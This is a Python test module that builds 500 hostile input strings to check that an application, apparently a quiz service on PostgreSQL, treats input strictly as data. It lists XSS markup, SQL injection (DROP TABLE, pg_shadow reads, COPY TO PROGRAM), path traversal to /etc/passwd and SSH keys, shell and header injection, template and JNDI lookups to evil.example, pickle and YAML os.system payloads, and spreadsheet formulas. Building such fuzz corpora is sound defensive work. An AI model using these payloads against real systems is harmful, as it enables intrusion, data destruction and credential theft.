"""500 hostile strings: each is data, and must stay data, wherever it goes."""

from __future__ import annotations

import random

#: What a page that ran any of them would do: ask this path, which only a script would.
BEACON = "/beacon-of-h4"

_CALLS = (
    f"fetch('{BEACON}')",
    f"new Image().src='{BEACON}'",
    f"document.title='{BEACON}'",
    f"document.body.dataset.ran='{BEACON}'",
)
_MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    '<img src=x onerror="{}">',
    "<img src=x onerror={} x=",
    '"><img src=x onerror="{}">',
    '\'><svg onload="{}">',
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '<body onload="{}">',
    '<iframe src="javascript:parent.{}"></iframe>',
    '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    '<details open ontoggle="{}">',
    '<video><source onerror="{}"></video>',
    '<input autofocus onfocus="{}">',
    "<style>@import '{}';</style>",
    '<link rel=stylesheet href="javascript:{}">',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="javascript:{}//">',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<math><mtext></mtext><mglyph><style><img src=x onerror="{}"></style>',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    '<textarea></textarea><img src=x onerror="{}">',
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    '<a href="javascript:{}">a</a>',
    '<form action="javascript:{}"><button>b</button></form>',
    "<template><script>{}</script></template>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "[a](javascript:{})",
    '![a](x" onerror="{})',
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    '";{};//',
    "';{};//",
    "`;{};//",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{}",
    "<script>\N{LINE SEPARATOR}{}</script>",
    "\N{ZERO WIDTH NO-BREAK SPACE}<script>{}</script>",
    "<scr\tipt>{}</scr\nipt>",
    "<img src=\"x:gif\" onerror=\"window['eval'](atob('{}'))\">",
)
_ESC, _CSI, _BEL = "\x1b", "\x9b", "\x07"
TERMINAL = (
    f"{_ESC}[2J{_ESC}[H",
    f"{_ESC}[31mred{_ESC}[0m",
    f"{_ESC}[8mhidden",
    f"{_ESC}[1A{_ESC}[2Kgone",
    f"{_ESC}[6n",
    f"{_ESC}c",
    f"{_ESC}]0;title{_BEL}",
    f"{_ESC}]2;title{_ESC}\\",
    f"{_ESC}]8;;http://evil.example{_ESC}\\link{_ESC}]8;;{_ESC}\\",
    f"{_ESC}]52;c;ZXZpbA=={_BEL}",
    f"{_ESC}]1337;File=inline=1:AAAA{_BEL}",
    f"{_ESC}P+q544e{_ESC}\\",
    f"{_ESC}_Ga=T;AAAA{_ESC}\\",
    f"{_ESC}[?1049h",
    f"{_ESC}[?1000h",
    f"{_CSI}2J",
    f"{_CSI}31mred",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "over\rwritten",
    "back\b\b\bspaced",
    "bell\x07",
    "form\x0cfeed",
    "vertical\x0btab",
    "shift\x0eout\x0f",
    "delete\x7f",
    "[bold red]markup[/bold red]",
    "[link=http://evil.example]markup[/link]",
    "[/]",
    "\\[bold]",
)
BIDI = tuple(
    f"user{mark}nimda{other}"
    for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u061c\u200e\u200f"
    for other in ("\u202c", "\u2069")
)
SQL = (
    "'; DROP TABLE questions; --",
    '"; DROP TABLE questions; --',
    "' OR '1'='1",
    "1; DELETE FROM attempts",
    "') UNION SELECT usename, passwd FROM pg_shadow --",
    "$$; TRUNCATE dead_letters; $$",
    "$1",
    "%s",
    "%(id)s",
    "?",
    ":name",
    "\\'; SELECT pg_sleep(10); --",
    "E'\\x27'",
    "'||(SELECT version())||'",
    "0x27",
    "NULL",
    "null",
    "\\N",
    "\\.",
    "COPY questions TO PROGRAM 'id'",
    "/**/OR/**/1=1",
    "admin'--",
    "ʼ; DROP TABLE questions; --",
    "＇; DROP TABLE questions; --",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc",
    "....//....//etc/passwd",
    "%00/etc/passwd",
    "C:\\CON",
    "~root/.ssh/id_rsa",
    "|id",
    ";id",
    "`id`",
    "$(id)",
    "&& id",
    "\\\\host\\share",
    "-rf",
    "--help",
    ".",
    "..",
)
HEADERS = (
    "a\r\nSet-Cookie: evil=1",
    "a\r\n\r\n<script>",
    "a\nLocation: http://evil.example",
    "a\rX: y",
    "%0d%0aSet-Cookie: evil=1",
    "a\u560d\u560aSet-Cookie: evil=1",
    "a\u2028X: y",
    "a\x85X: y",
    "HTTP/1.1 200 OK\r\n\r\n",
    "0\r\n\r\nGET / HTTP/1.1",
)
FORMATS = (
    "%s%s%s%s%n",
    "%x.%x.%x",
    "{0.__class__.__mro__}",
    "{settings.api_token}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "{% for x in [] %}",
    "{}",
    "{0}",
    "{",
    "}",
    "%",
    "$",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system ['id']",
    "cos\nsystem\n(S'id'\ntR.",
    "eval(1)",
)
#: What a spreadsheet takes for a formula.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("http://evil.example")',
    "＝1+1",
)
UNICODE = (
    "Ω≈ç√∫˜µ≤≥÷",
    "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜",
    "Z̸̢̛a̵͎l̷͙g̶̱o̴̜",
    "👨‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "\N{ZERO WIDTH SPACE}",
    "\N{SOFT HYPHEN}soft",
    "\N{NO-BREAK SPACE}nbsp",
    "\ufeffbom",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\U000e0041tag",
    "ﷺ",
    "ｆｕｌｌ",
    "ﬁ",
    "İı",
    "ß",
    "Ā̂",
    "日本語",
    "العربية",
    "עברית",
    "ไทย",
    "हिन्दी",
    "\u0600",
    "\u2028",
    "\u2029",
    "\u3000",
    "а",
    "раypal",
)
LONG = ("A" * 20_000, "<" * 10_000, "\N{PILE OF POO}" * 4_000, "a\u0301" * 8_000, "(" * 5_000)
#: PostgreSQL's text can't hold a NUL: such a question is refused, such an answer loses it.
NULS = ("\x00", "a\x00b", "\x00<script>", "a\x00", "'\x00; DROP TABLE questions; --")


def strings() -> list[str]:
    """Return 500 different strings, the same ones each time."""
    scripts = [form.format(call) for form in _MARKUP for call in _CALLS]
    rest = (TERMINAL, BIDI, SQL, PATHS, HEADERS, FORMATS, FORMULAS, UNICODE, LONG, NULS)
    found = [*scripts, *(each for group in rest for each in group)]
    draw = random.Random(4)
    while len(found) < 500:  # pairs of different kinds
        pair = draw.choice(found[: len(scripts)]) + draw.choice(found[len(scripts) :])
        if len(pair) < 1000 and pair not in found:
            found.append(pair)
    return list(dict.fromkeys(found))
